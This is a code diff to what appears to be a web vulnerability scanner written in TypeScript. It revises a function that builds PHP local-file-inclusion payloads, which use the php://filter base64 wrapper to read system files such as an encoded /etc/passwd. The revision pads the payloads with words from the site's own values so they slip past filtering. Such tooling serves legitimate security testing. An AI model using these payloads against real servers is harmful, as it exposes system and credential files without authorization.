@@ -154,16 +154,16 @@ export const fileAddresses = (ending: string): Spelling[] => [
 function throughFilter(sample: string, route: string): Spelling[] {
   const filter = (path: string) => `php://filter/convert.base64-encode/resource=${path}`;
   const script = /(?<![\w-])([\w-]+)\.php$/i.exec(route)?.[1] ?? 'index';
-  const [word] = /^[\w-]{2,40}(?=[/.]|$)/.exec(sample) ?? [];
+  const words = /^[\w./-]{2,80}$/.test(sample) ? (sample.match(/[\w.-]{2,40}/g) ?? []) : [];
   const scripts = new Set([sample.replace(/\.php$/i, ''), script].filter((name) => /^[\w./-]{1,80}$/.test(name)));
   return [
     { spell: (path) => filter(`/${path}`), file: encodedPasswd },
-    // has to have a word of the site's own values in it: filters that PHP does not know are passed over
-    ...(word === undefined
+    // has to have words of the site's own values in it: filters that PHP does not know are passed over
+    ...(words.length === 0
       ? []
       : [
           {
-            spell: (path: string) => filter(`/${path}`).replace('/resource=', `/${word}/resource=`),
+            spell: (path: string) => filter(`/${path}`).replace('/resource=', `/${words.join('/')}/resource=`),
             file: encodedPasswd,
           },
         ]),
